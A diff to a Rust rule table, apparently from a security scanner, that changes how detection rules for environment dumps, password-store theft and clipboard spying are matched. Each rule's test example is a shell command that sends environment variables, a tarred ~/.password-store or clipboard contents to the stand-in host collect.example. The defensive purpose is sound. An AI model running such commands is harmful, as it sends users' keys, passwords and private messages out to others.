@@ -82,7 +82,7 @@ pub(super) const RULES: &[Rule] = &[
         reason: "the environment contains the keys and tokens of the user",
         help: "do not run it; if it ran, replace the keys in the environment of that machine",
         scope: Any,
-        matcher: Pair(ENVIRONMENT, SEND, 8),
+        matcher: Pair { first: ENVIRONMENT, second: SEND, max_lines: 8 },
         example: example(
             "scripts/a.sh",
             "#!/bin/sh\nexport -p > /tmp/state\ncurl --data-binary @/tmp/state https://collect.example/s\n",
@@ -96,7 +96,7 @@ pub(super) const RULES: &[Rule] = &[
         reason: "this combination is typical of credential theft",
         help: "do not run it; if it ran, change the passwords and end the sessions on that machine",
         scope: Code,
-        matcher: Pair(STORES, SEND, 12),
+        matcher: Pair { first: STORES, second: SEND, max_lines: 12 },
         example: example(
             "scripts/a.sh",
             "#!/bin/sh\ntar cf /tmp/s ~/.password-store\ncurl -T /tmp/s https://collect.example/s\n",
@@ -121,7 +121,7 @@ pub(super) const RULES: &[Rule] = &[
         reason: "it can record passwords and private messages",
         help: "find out what is sent, and when; do not run it otherwise",
         scope: Code,
-        matcher: Pair(SPIES, SEND, 12),
+        matcher: Pair { first: SPIES, second: SEND, max_lines: 12 },
         example: example(
             "scripts/a.sh",
             "#!/bin/sh\nwhile sleep 5; do pbpaste | curl -s --data-binary @- https://collect.example/c; done\n",
